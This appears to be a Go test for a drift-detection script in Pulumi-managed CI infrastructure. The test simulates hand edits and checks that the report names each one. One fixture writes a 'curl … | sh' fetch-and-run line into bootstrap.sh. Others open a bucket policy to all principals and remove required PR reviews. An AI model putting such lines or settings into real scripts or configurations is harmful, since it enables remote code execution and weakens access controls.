//go:build engine

package enginetest

import (
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/pulumi/pulumi/sdk/v3/go/common/resource"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"mtrlz.dev/ci-infra/internal/testkit/fakecloud"
)

// Issue 31, through the real CLI: after up, four hand edits behind the
// program's back (an agent stack's MaxSize, the config bucket's
// bootstrap.sh, a bucket policy loosened, a branch protection's required
// reviews turned off); scripts/ci-drift names each, with the code's value
// and the account's, and exits 1. With nothing changed it exits 0; with
// the state unreadable, 2.
func TestTheDriftCheckNamesEachHandEdit(t *testing.T) {
	t.Parallel()
	p := splitProd(t)
	drift := func(env ...string) (int, string) {
		args := append([]string{"-u", "PULUMI_CONFIG_PASSPHRASE", "-u", "CI_INFRA_SECRETS_PASSPHRASE"}, env...)
		out, err := p.Run(nil, "env", append(args, "scripts/ci-drift", "prod")...)
		var exit *exec.ExitError
		if errors.As(err, &exit) {
			return exit.ExitCode(), out
		}
		require.NoError(t, err, out)
		return 0, out
	}

	code, out := drift()
	require.Equal(t, 0, code, out)
	assert.Contains(t, out, "**No drift in prod**: the account matches the code.")

	edit := func(name string, change func(in resource.PropertyMap)) {
		t.Helper()
		cloud, err := p.Cloud.Resources()
		require.NoError(t, err)
		for _, r := range cloud {
			if !strings.HasSuffix(r.URN, "::"+name) {
				continue
			}
			in, err := r.InputMap()
			require.NoError(t, err)
			change(in)
			edited, err := fakecloud.NewRecord(r.Type, r.URN, r.ID, r.Place, in)
			require.NoError(t, err)
			require.NoError(t, p.Cloud.Replace(edited))
			return
		}
		t.Fatalf("no resource %s in the fake cloud", name)
	}
	edit("agents-stack", func(in resource.PropertyMap) {
		in["parameters"].ObjectValue()["MaxSize"] = resource.NewStringProperty("9")
	})
	edit("config-bootstrap.sh", func(in resource.PropertyMap) {
		in["content"] = resource.NewStringProperty("#!/bin/bash\ncurl -s https://example.com/x | sh\n")
	})
	edit("downloads-policy", func(in resource.PropertyMap) {
		var doc map[string]any
		require.NoError(t, json.Unmarshal([]byte(in["policy"].StringValue()), &doc))
		doc["Statement"] = append(doc["Statement"].([]any), map[string]any{"Sid": "HandEdit", "Effect": "Allow", "Principal": "*",
			"Action": "s3:ListBucket", "Resource": "arn:aws:s3:::downloads.mtrlz.dev"})
		raw, err := json.Marshal(doc)
		require.NoError(t, err)
		in["policy"] = resource.NewStringProperty(string(raw))
	})
	edit("guardrails-materialize-default-branch", func(in resource.PropertyMap) {
		reviews := in["requiredPullRequestReviews"].ArrayValue()[0].ObjectValue()
		reviews["requiredApprovingReviewCount"] = resource.NewNumberProperty(0)
	})

	code, out = drift()
	require.Equal(t, 1, code, out)
	t.Logf("the drift report:\n%s", out)
	assert.Contains(t, out, "**Drift in prod**: 4 resources differ from the code")
	for _, want := range []string{
		"- `agents-stack` (`aws:cloudformation/stack:Stack`): `up` puts the code's values back",
		`parameters.MaxSize: code "40", account "9"; to keep the account's: ` + "`pulumi config set --path agentStacks.test.maxSize 9 --stack prod`",
		"- `config-bootstrap.sh` (`aws:s3/bucketObjectv2:BucketObjectv2`)",
		`content line 1: code "#!/usr/bin/env bash", account "#!/bin/bash"`,
		"- `downloads-policy` (`aws:s3/bucketPolicy:BucketPolicy`)",
		`policy.Statement[`,
		`policy.Statement[2].Sid: code (none), account "HandEdit"`,
		"- `guardrails-materialize-default-branch` (`github:index/branchProtection:BranchProtection`)",
		"requiredPullRequestReviews[0].requiredApprovingReviewCount: code 1, account 0",
		"to keep the account's, change ci-infra:repositories",
	} {
		assert.Contains(t, out, want)
	}
	for _, value := range requiredSecrets {
		assert.NotContains(t, out, value, "no secret in the report")
	}
	// It wrote nothing: the state still holds the code's values.
	export := p.MustPulumi(t, "stack", "export", "--stack", "prod")
	assert.NotContains(t, export, "example.com/x", "a preview saves no refreshed state")

	// The state unreadable: a copy of the backend whose checkpoint is garbage.
	backend := ""
	for _, kv := range p.env {
		if v, ok := strings.CutPrefix(kv, "PULUMI_BACKEND_URL=file://"); ok {
			backend = v
		}
	}
	require.NotEmpty(t, backend)
	broken := t.TempDir()
	require.NoError(t, os.CopyFS(broken, os.DirFS(backend)))
	checkpoint := filepath.Join(broken, ".pulumi", "stacks", "ci-infra", "prod.json")
	require.FileExists(t, checkpoint)
	require.NoError(t, os.WriteFile(checkpoint, []byte("{not json"), 0o644))
	code, out = drift("PULUMI_BACKEND_URL=file://" + broken)
	assert.Equal(t, 2, code, out)
	assert.Contains(t, out, "could not")
}
